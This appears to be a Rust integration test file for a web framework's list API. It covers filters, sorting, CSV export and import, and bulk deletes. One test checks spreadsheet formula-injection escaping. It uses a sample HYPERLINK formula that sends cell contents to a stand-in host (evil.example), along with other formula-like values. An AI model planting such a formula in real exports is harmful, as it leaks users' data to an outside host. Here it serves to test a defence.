//! A list's view: filters by type, combined with search and sort, in one
//! order on both databases (text by code point, `null` first ascending);
//! a 400 naming an unknown field, operator or value; the export of a view
//! as CSV that imports back as the same rows; bulk deletes of ids or of a
//! view, all or none. On SQLite, and on PostgreSQL with
//! `AEGIS_TEST_DATABASE_URL`.

use aegis::Limits;
use aegis::protocol::EventAction;
use aegis::testing::TestApp;
use aegis::{Api, ModuleSettings, crud_module};
use serde::{Deserialize, Serialize};
use serde_json::{Value, json};

#[derive(Serialize, Deserialize, Clone, Copy, Debug, PartialEq)]
#[serde(rename_all = "snake_case")]
pub enum Level {
    Low,
    High,
}

#[crud_module(with_events, with_import)]
#[derive(Serialize, Deserialize, Clone, Debug, PartialEq)]
pub struct Item {
    pub id: i64,
    pub name: String,
    pub level: Level,
    pub amount: f64,
    pub count: i64,
    pub done: bool,
    pub due: chrono::DateTime<chrono::Utc>,
    pub day: chrono::NaiveDate,
    pub note: Option<String>,
    pub tags: Vec<String>,
    pub version: i64,
}

const SORTABLE: &[&str] = &[
    "id", "name", "level", "amount", "count", "done", "due", "day", "note",
];

fn api() -> Api {
    Api::new().module::<Item>(ModuleSettings {
        module: "items",
        with_events: true,
        with_import: true,
        with_history: true,
        sortable: Some(SORTABLE),
    })
}

/// name, level, amount, count, done, due, day, note
type Row = (
    &'static str,
    &'static str,
    f64,
    i64,
    bool,
    &'static str,
    &'static str,
    Option<&'static str>,
);

const ROWS: &[Row] = &[
    (
        "apple",
        "low",
        10.0,
        3,
        false,
        "2026-01-01T00:00:00Z",
        "2026-01-05",
        Some("Red fruit"),
    ),
    (
        "Banana",
        "high",
        25.5,
        1,
        true,
        "2026-01-01T00:00:00.500Z",
        "2026-02-01",
        None,
    ),
    (
        "cherry",
        "high",
        7.25,
        10,
        false,
        "2025-12-31T23:59:59.999+00:00",
        "2025-12-31",
        Some("small"),
    ),
    (
        "ÉCLAIR",
        "low",
        100.0,
        2,
        true,
        "2026-03-01T12:00:00+02:00",
        "2026-03-01",
        Some("50%_off"),
    ),
    (
        "date",
        "low",
        25.5,
        7,
        false,
        "2026-02-01T00:00:00Z",
        "2026-01-20",
        None,
    ),
];

fn row(i: usize) -> Value {
    let (name, level, amount, count, done, due, day, note) = ROWS[i];
    json!({"name": name, "level": level, "amount": amount, "count": count, "done": done,
           "due": due, "day": day, "note": note, "tags": [name]})
}

async fn app_with(limits: Limits) -> TestApp {
    let app = TestApp::with_limits(api(), limits).await;
    for i in 0..ROWS.len() {
        let reply = app
            .call("POST", "/api/items", Some(&app.admin()), Some(row(i)), &[])
            .await;
        assert_eq!(reply.status.as_u16(), 201, "{}", reply.text);
    }
    app
}

async fn app() -> TestApp {
    app_with(Limits::default()).await
}

/// The names a list answers, in order, and its total; or the error body.
async fn names(app: &TestApp, query: &str) -> Result<(Vec<String>, u64), Value> {
    let reply = app
        .call(
            "GET",
            &format!("/api/items?{query}"),
            Some(&app.admin()),
            None,
            &[],
        )
        .await;
    if reply.status.as_u16() != 200 {
        assert_eq!(reply.status.as_u16(), 400, "{}", reply.text);
        return Err(reply.body);
    }
    let names = reply.body["data"]
        .as_array()
        .unwrap()
        .iter()
        .map(|t| t["name"].as_str().unwrap().to_owned())
        .collect();
    Ok((names, reply.body["total"].as_u64().unwrap()))
}

async fn ok(app: &TestApp, query: &str) -> Vec<String> {
    names(app, query).await.unwrap().0
}

async fn refused(app: &TestApp, query: &str) -> String {
    let body = names(app, query).await.unwrap_err();
    assert_eq!(body["code"], "bad_request");
    body["message"].as_str().unwrap().to_owned()
}

#[tokio::test]
async fn each_operator_filters_by_its_type() {
    let app = app().await;
    assert_eq!(ok(&app, "level.eq=high").await, ["Banana", "cherry"]);
    assert_eq!(
        ok(&app, "level.in=high,low&sort=-count").await,
        ["cherry", "date", "apple", "ÉCLAIR", "Banana"]
    );
    assert_eq!(
        ok(&app, "amount.gte=25.5").await,
        ["Banana", "ÉCLAIR", "date"]
    );
    assert_eq!(
        ok(&app, "amount.gt=10&amount.lt=100").await,
        ["Banana", "date"]
    );
    assert_eq!(ok(&app, "count.lte=2").await, ["Banana", "ÉCLAIR"]);
    assert_eq!(ok(&app, "count.in=1,7,99").await, ["Banana", "date"]);
    // An empty list is one value, the empty text: no name is empty.
    assert!(ok(&app, "name.in=").await.is_empty());
    assert_eq!(ok(&app, "name.in=,apple").await, ["apple"]);
    assert_eq!(ok(&app, "done.eq=true").await, ["Banana", "ÉCLAIR"]);
    // Zoned times compare as times, whatever their text.
    assert_eq!(
        ok(&app, "due.gte=2026-01-01T00:00:00.100Z&sort=due").await,
        ["Banana", "date", "ÉCLAIR"]
    );
    assert_eq!(
        ok(&app, "due.lt=2026-01-01T01:00:00%2B01:00").await,
        ["cherry"]
    );
    assert_eq!(
        ok(&app, "day.gte=2026-01-01&day.lte=2026-01-31&sort=day").await,
        ["apple", "date"]
    );
    assert_eq!(ok(&app, "note.empty=true").await, ["Banana", "date"]);
    assert_eq!(
        ok(&app, "note.empty=false&sort=note").await,
        ["ÉCLAIR", "apple", "cherry"]
    );
    // `contains` finds the text itself (`%` and `_` are no wildcards),
    // whatever the case of its ASCII letters.
    assert_eq!(ok(&app, "note.contains=RED").await, ["apple"]);
    // Other letters as written find themselves on both databases.
    assert_eq!(ok(&app, "name.contains=ÉCL").await, ["ÉCLAIR"]);
    assert_eq!(ok(&app, "note.contains=%25_").await, ["ÉCLAIR"]);
    assert_eq!(
        ok(&app, "name.contains=a&sort=name").await,
        ["Banana", "apple", "date", "ÉCLAIR"]
    );
}

#[tokio::test]
async fn filters_search_sort_and_pages_combine_and_the_total_counts_the_view() {
    let app = app().await;
    let (page, total) = names(&app, "level.eq=low&sort=-amount&page=2&pageSize=2")
        .await
        .unwrap();
    assert_eq!((page, total), (vec!["apple".to_owned()], 3));
    let (page, total) = names(&app, "q=fruit&level.eq=low").await.unwrap();
    assert_eq!((page, total), (vec!["apple".to_owned()], 1));
    let (page, total) = names(&app, "q=fruit&level.eq=high").await.unwrap();
    assert_eq!((page, total), (Vec::<String>::new(), 0));
}

#[tokio::test]
async fn the_order_is_one_on_both_databases() {
    let app = app().await;
    // Text by code point: upper case before lower case, `É` after both.
    assert_eq!(
        ok(&app, "sort=name").await,
        ["Banana", "apple", "cherry", "date", "ÉCLAIR"]
    );
    // `null` first ascending, last descending; ties by id.
    assert_eq!(
        ok(&app, "sort=note").await,
        ["Banana", "date", "ÉCLAIR", "apple", "cherry"]
    );
    assert_eq!(
        ok(&app, "sort=-note").await,
        ["cherry", "apple", "ÉCLAIR", "Banana", "date"]
    );
    assert_eq!(
        ok(&app, "sort=-amount").await,
        ["ÉCLAIR", "Banana", "date", "apple", "cherry"]
    );
    assert_eq!(
        ok(&app, "sort=done").await,
        ["apple", "cherry", "date", "Banana", "ÉCLAIR"]
    );
    assert_eq!(
        ok(&app, "sort=level").await,
        ["Banana", "cherry", "apple", "ÉCLAIR", "date"]
    );
}

#[tokio::test]
async fn a_bad_view_is_a_400_naming_what_is_wrong() {
    let app = app().await;
    assert_eq!(
        refused(&app, "colour.eq=red").await,
        "cannot filter items by `colour`; it filters by `id`, `name`, `level`, `amount`, \
         `count`, `done`, `due`, `day`, `note`, `version`"
    );
    assert_eq!(
        refused(&app, "tags.eq=x").await,
        refused(&app, "colour.eq=x")
            .await
            .replace("`colour`", "`tags`")
    );
    assert_eq!(
        refused(&app, "amount.like=3").await,
        "unknown filter operator `like` in `amount.like`; `amount` takes `eq`, `in`, `gt`, \
         `gte`, `lt`, `lte`"
    );
    assert_eq!(
        refused(&app, "done.gte=true").await,
        "`done` does not take `gte`; it takes `eq`"
    );
    assert_eq!(
        refused(&app, "name.empty=true").await,
        "`name` does not take `empty`; it takes `eq`, `in`, `gt`, `gte`, `lt`, `lte`, `contains`"
    );
    assert_eq!(
        refused(&app, "count.eq=three").await,
        "`count.eq` must be a whole number, found `three`"
    );
    assert_eq!(
        refused(&app, "due.gte=yesterday").await,
        "`due.gte` must be a date and time with a zone (RFC 3339), found `yesterday`"
    );
    assert_eq!(
        refused(&app, "note.empty=yes").await,
        "`note.empty` must be `true` or `false`, found `yes`"
    );
    assert_eq!(
        refused(&app, "count.in=").await,
        "`count.in` must be a whole number, found ``"
    );
    let many = (0..101)
        .map(|n| n.to_string())
        .collect::<Vec<_>>()
        .join(",");
    assert_eq!(
        refused(&app, &format!("count.in={many}")).await,
        "`count.in` takes 1 to 100 comma-separated values"
    );
    assert_eq!(
        refused(&app, "colour=red").await,
        "unknown parameter `colour`; this takes `page`, `pageSize`, `sort`, `q` and filters \
         `<field>.<operator>`"
    );
    assert_eq!(
        refused(&app, "page=1&page=2").await,
        "`page` is given twice"
    );
    assert_eq!(
        refused(&app, "page=first").await,
        "`page` must be a whole number, found `first`"
    );
    assert!(
        refused(&app, "sort=tags")
            .await
            .starts_with("cannot sort items by `tags`")
    );
}

/// Every row, without its id.
async fn rows(app: &TestApp) -> Vec<Value> {
    let reply = app
        .call(
            "GET",
            "/api/items?pageSize=50",
            Some(&app.admin()),
            None,
            &[],
        )
        .await;
    let mut rows: Vec<Value> = reply.body["data"].as_array().unwrap().clone();
    for row in &mut rows {
        row.as_object_mut().unwrap().remove("id");
    }
    rows
}

async fn export(app: &TestApp, query: &str) -> (u16, String) {
    let reply = app
        .call(
            "GET",
            &format!("/api/items/export?{query}"),
            Some(&app.admin()),
            None,
            &[],
        )
        .await;
    (reply.status.as_u16(), reply.text)
}

#[tokio::test]
async fn an_export_is_the_view_in_the_import_columns_and_imports_back_as_the_same_rows() {
    let app = app().await;
    let (status, csv) = export(&app, "level.eq=low&sort=-amount").await;
    assert_eq!(status, 200, "{csv}");
    assert_eq!(
        csv,
        "name,level,amount,count,done,due,day,note,tags\n\
         ÉCLAIR,low,100.0,2,true,2026-03-01T10:00:00Z,2026-03-01,50%_off,\"[\"\"ÉCLAIR\"\"]\"\n\
         date,low,25.5,7,false,2026-02-01T00:00:00Z,2026-01-20,,\"[\"\"date\"\"]\"\n\
         apple,low,10.0,3,false,2026-01-01T00:00:00Z,2026-01-05,Red fruit,\"[\"\"apple\"\"]\"\n"
    );

    // Every row, exported then imported into an empty app: the same rows.
    let (_, all) = export(&app, "").await;
    let copy = TestApp::new(api()).await;
    let job = copy.import("items", &all, false).await;
    assert_eq!(job.status.as_u16(), 202, "{}", job.text);
    let done = copy
        .finished_job("items", job.body["jobId"].as_str().unwrap())
        .await;
    assert_eq!(done["successfulRows"], 5, "{done}");
    assert_eq!(rows(&copy).await, rows(&app).await);
    assert_eq!(export(&copy, "").await.1, all);
}

/// Text a spreadsheet would run as a formula is exported behind a `'`
/// (numbers are not: -3 is a number), and imported back as it was.
#[tokio::test]
async fn an_export_quotes_formulas_and_imports_them_back_as_they_were() {
    let app = TestApp::new(api()).await;
    let formula = "=HYPERLINK(\"https://evil.example/?\"&A2,\"x\")";
    let names = [formula, "+1", "-2", "@SUM(A1)", "\tTab", "'=quoted", "'tis"];
    for (n, name) in names.iter().enumerate() {
        let mut item = row(0);
        item["name"] = json!(name);
        item["note"] = json!(format!("-{n}"));
        item["amount"] = json!(-3.5);
        item["tags"] = json!(["=1+1"]);
        let reply = app
            .call("POST", "/api/items", Some(&app.admin()), Some(item), &[])
            .await;
        assert_eq!(reply.status.as_u16(), 201, "{}", reply.text);
    }
    let (status, csv) = export(&app, "sort=id").await;
    assert_eq!(status, 200, "{csv}");
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let cells: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    let exported: Vec<&str> = cells.iter().map(|row| &row[0]).collect();
    assert_eq!(
        exported,
        [
            &format!("'{formula}")[..],
            "'+1",
            "'-2",
            "'@SUM(A1)",
            "'\tTab",
            "''=quoted",
            "'tis"
        ]
    );
    for row in &cells {
        assert_eq!(&row[2], "-3.5", "a number is no formula");
        assert!(row[7].starts_with("'-"), "{:?}", &row[7]);
        assert!(
            row[8].starts_with('['),
            "JSON that is no formula: {:?}",
            &row[8]
        );
    }
    let copy = TestApp::new(api()).await;
    let job = copy.import("items", &csv, false).await;
    assert_eq!(job.status.as_u16(), 202, "{}", job.text);
    let done = copy
        .finished_job("items", job.body["jobId"].as_str().unwrap())
        .await;
    assert_eq!(done["successfulRows"], names.len(), "{done}");
    assert_eq!(rows(&copy).await, rows(&app).await);
    assert_eq!(export(&copy, "sort=id").await.1, csv);
}

#[tokio::test]
async fn exports_at_once_are_bounded_and_a_bad_view_is_a_json_400() {
    let busy = app_with(Limits {
        exports: 0,
        ..Limits::default()
    })
    .await;
    let reply = busy
        .call("GET", "/api/items/export", Some(&busy.admin()), None, &[])
        .await;
    assert_eq!(reply.status.as_u16(), 429, "{}", reply.text);
    let app = app().await;
    let reply = app
        .call(
            "GET",
            "/api/items/export?page=2",
            Some(&app.admin()),
            None,
            &[],
        )
        .await;
    assert_eq!(reply.status.as_u16(), 400);
    assert_eq!(
        reply.body["message"],
        "unknown parameter `page`; this takes `sort`, `q` and filters `<field>.<operator>`"
    );
}

async fn bulk_delete(app: &TestApp, body: Value) -> (u16, Value) {
    let reply = app
        .call(
            "POST",
            "/api/items/bulk-delete",
            Some(&app.admin()),
            Some(body),
            &[],
        )
        .await;
    (reply.status.as_u16(), reply.body)
}

#[tokio::test]
async fn a_bulk_delete_deletes_ids_or_a_view_all_or_none_with_every_event() {
    let app = app().await;
    let mut events = app.events();
    let (status, body) = bulk_delete(&app, json!({"ids": [1, 3, 3]})).await;
    assert_eq!((status, body), (200, json!({"deleted": 2})));
    for id in [1, 3] {
        let event = events.recv().await.unwrap();
        assert_eq!(event.message.action, EventAction::Deleted);
        assert_eq!(event.message.data, json!({"id": id}));
    }
    assert_eq!(ok(&app, "").await, ["Banana", "ÉCLAIR", "date"]);

    // One missing id: nothing is deleted.
    let (status, body) = bulk_delete(&app, json!({"ids": [2, 99]})).await;
    assert_eq!(status, 404, "{body}");
    assert_eq!(body["message"], "no item with id `99`");
    assert_eq!(ok(&app, "").await, ["Banana", "ÉCLAIR", "date"]);

    // Every row of a view, read in the deleting transaction.
    let (status, body) = bulk_delete(&app, json!({"query": "amount.eq=25.5&q=an"})).await;
    assert_eq!((status, body), (200, json!({"deleted": 1})));
    assert_eq!(ok(&app, "").await, ["ÉCLAIR", "date"]);

    for (bad, message) in [
        (json!({}), "a bulk delete takes either `ids` or `query`"),
        (
            json!({"ids": [4], "query": ""}),
            "a bulk delete takes either `ids` or `query`",
        ),
        (
            json!({"query": "sort=name"}),
            "unknown parameter `sort`; this takes `q` and filters `<field>.<operator>`",
        ),
        (json!({"ids": ["four"]}), "`\"four\"` is not an id of items"),
    ] {
        let (status, body) = bulk_delete(&app, bad).await;
        assert_eq!((status, body["message"].as_str().unwrap()), (400, message));
    }
    assert_eq!(ok(&app, "").await, ["ÉCLAIR", "date"]);
}

#[tokio::test]
async fn a_bulk_delete_over_the_limit_deletes_nothing() {
    let app = app_with(Limits {
        bulk_delete_rows: 2,
        ..Limits::default()
    })
    .await;
    let (status, body) = bulk_delete(&app, json!({"query": ""})).await;
    assert_eq!(status, 400);
    assert_eq!(
        body["message"],
        "a bulk delete deletes at most 2 rows; this one would delete more"
    );
    assert_eq!(names(&app, "").await.unwrap().1, 5);
    let (status, _) = bulk_delete(&app, json!({"query": "level.eq=high"})).await;
    assert_eq!(status, 200);
    assert_eq!(names(&app, "").await.unwrap().1, 3);
}
